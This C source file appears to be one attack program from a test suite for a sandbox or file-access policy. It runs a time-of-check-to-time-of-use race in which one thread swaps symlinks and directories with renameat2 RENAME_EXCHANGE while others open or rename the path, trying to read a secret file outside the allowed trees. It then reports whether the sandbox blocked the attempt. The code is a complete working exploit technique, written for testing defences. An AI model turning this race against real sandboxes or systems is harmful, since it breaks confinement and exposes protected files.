/* toctou_fs MODE TARGET COUNT: the file system changes between the check and
 * the open, not the memory. A flipper thread swaps two names atomically
 * (renameat2 RENAME_EXCHANGE) while two threads open through one of them,
 * COUNT opens in all. TARGET is "secret" (outside the allowed trees) or
 * "vault" (inside the writable tree). Won when an open returns a secret.
 *   symlink   ATK_WORK/lnk is a symlink to ATK_PUBLIC, swapped with one to
 *             TARGET; the openers open ATK_WORK/lnk
 *   dir       ATK_WORK/dsw is a directory holding a public "key", swapped
 *             with a symlink to TARGET's directory; the openers open
 *             ATK_WORK/dsw/key (the swap is on the way, not at the end)
 *   rename    the same swap, but the two threads rename ATK_WORK/dsw/key to
 *             ATK_WORK/stolen-N (allowed: both in the writable tree) and
 *             read what they moved
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define LINK	   ATK_WORK "/lnk"
#define LINK_OTHER ATK_WORK "/lnk.other"
#define DIR	   ATK_WORK "/dsw"
#define DIR_OTHER  ATK_WORK "/dsw.other"

static struct {
	const char *a, *b; /* the two names the flipper swaps */
	const char *opened;
	long count;
	atomic_long attempts, public_opens, refused, other;
	atomic_int stop;
	atomic_long won_at;
	atomic_int other_errno;
} race;

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load(&race.stop)) {
		if (renameat2(AT_FDCWD, race.a, AT_FDCWD, race.b, RENAME_EXCHANGE) < 0) {
			atomic_store(&race.other_errno, errno);
			atomic_store(&race.stop, 1);
		}
	}
	return NULL;
}

static bool renaming;

/* rename mode: move the file away first, then open it where it went. */
static int move_and_open(long n)
{
	char stolen[64];
	snprintf(stolen, sizeof(stolen), ATK_WORK "/stolen-%ld", n);
	if (rename(race.opened, stolen) < 0)
		return -1;
	int fd = open(stolen, O_RDONLY);
	int saved = errno;
	unlink(stolen);
	/* Put a public key back for the next attempt (wherever dsw points,
	 * the file is recreated only if missing). */
	int again = open(race.opened, O_WRONLY | O_CREAT | O_EXCL, 0644);
	if (again >= 0) {
		if (write(again, ATK_PUBLIC_MARK, strlen(ATK_PUBLIC_MARK)) < 0)
			atomic_fetch_add(&race.other, 1);
		close(again);
	}
	errno = saved;
	return fd;
}

static void *opener(void *arg)
{
	(void)arg;
	char buf[128];
	while (!atomic_load(&race.stop)) {
		long n = atomic_fetch_add(&race.attempts, 1) + 1;
		if (n > race.count) {
			atomic_store(&race.stop, 1);
			break;
		}
		int fd = renaming ? move_and_open(n) : open(race.opened, O_RDONLY);
		if (fd < 0) {
			if (errno == EACCES || errno == ELOOP || errno == ENOENT)
				atomic_fetch_add(&race.refused, 1);
			else
				atomic_fetch_add(&race.other, 1);
			continue;
		}
		ssize_t got = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		buf[got > 0 ? got : 0] = '\0';
		if (strstr(buf, ATK_SECRET_MARK) != NULL) {
			long expected = 0;
			atomic_compare_exchange_strong(&race.won_at, &expected, n);
			atomic_store(&race.stop, 1);
		} else {
			atomic_fetch_add(&race.public_opens, 1);
		}
	}
	return NULL;
}

/* The target's directory and file name, for the dir mode's symlink. */
static void split(const char *path, char *dir, size_t size)
{
	snprintf(dir, size, "%s", path);
	char *slash = strrchr(dir, '/');
	if (slash != NULL)
		*slash = '\0';
}

/* Removes what a previous run left at `name`: a symlink (never followed),
 * or the directory with its key. */
static void remove_name(const char *name)
{
	struct stat st;
	if (lstat(name, &st) < 0)
		return;
	if (S_ISDIR(st.st_mode)) {
		char key[512];
		snprintf(key, sizeof(key), "%s/key", name);
		unlink(key);
		rmdir(name);
	} else {
		unlink(name);
	}
}

static void setup(const char *mode, const char *target)
{
	remove_name(LINK);
	remove_name(LINK_OTHER);
	remove_name(DIR);
	remove_name(DIR_OTHER);
	if (strcmp(mode, "symlink") == 0) {
		if (symlink(ATK_PUBLIC, LINK) < 0 || symlink(target, LINK_OTHER) < 0)
			atk_result(ATK_ERROR, "symlink: %s", atk_errname(errno));
		race.a = LINK;
		race.b = LINK_OTHER;
		race.opened = LINK;
		return;
	}
	/* dir: the target file must be named "key" too. */
	char target_dir[512];
	split(target, target_dir, sizeof(target_dir));
	if (strcmp(strrchr(target, '/'), "/key") != 0)
		atk_result(ATK_ERROR, "the target is not named key: %s", target);
	int fd = -1;
	if (mkdir(DIR, 0755) < 0 || (fd = open(DIR "/key", O_WRONLY | O_CREAT, 0644)) < 0 ||
	    write(fd, ATK_PUBLIC_MARK, strlen(ATK_PUBLIC_MARK)) < 0 ||
	    symlink(target_dir, DIR_OTHER) < 0)
		atk_result(ATK_ERROR, "setup: %s", atk_errname(errno));
	close(fd);
	race.a = DIR;
	race.b = DIR_OTHER;
	race.opened = DIR "/key";
}

static int run(int argc, char **argv)
{
	if (argc < 3)
		atk_result(ATK_ERROR, "usage: toctou_fs MODE TARGET COUNT");
	const char *mode = argv[0];
	race.count = strtol(argv[2], NULL, 10);
	if (race.count <= 0)
		atk_result(ATK_ERROR, "bad count %s", argv[2]);
	renaming = strcmp(mode, "rename") == 0;
	setup(renaming ? "dir" : mode, atk_target(argv[1]));
	pthread_t threads[3];
	pthread_create(&threads[0], NULL, flipper, NULL);
	pthread_create(&threads[1], NULL, opener, NULL);
	pthread_create(&threads[2], NULL, opener, NULL);
	for (int i = 0; i < 3; i++)
		pthread_join(threads[i], NULL);
	long won = atomic_load(&race.won_at);
	if (won > 0)
		atk_result(ATK_WON, "%s: read the secret at attempt %ld", mode, won);
	int flip_errno = atomic_load(&race.other_errno);
	if (flip_errno != 0 && atomic_load(&race.attempts) < race.count)
		atk_result(flip_errno == EACCES || flip_errno == EPERM ? ATK_BLOCKED : ATK_ERROR,
			   "%s: the swap failed: %s", mode, atk_errname(flip_errno));
	atk_result(ATK_BLOCKED,
		   "%s: %ld attempts, %ld public opens, %ld refused (EACCES, ELOOP or ENOENT), "
		   "%ld other errors, never the secret",
		   mode, race.count, atomic_load(&race.public_opens), atomic_load(&race.refused),
		   atomic_load(&race.other));
	return 0;
}

int main(int argc, char **argv)
{
	static const struct atk_mode modes[] = {
		{ "symlink", run },
		{ "dir", run },
		{ "rename", run },
		{ NULL, NULL },
	};
	atk_dispatch(modes, argc, argv);
}
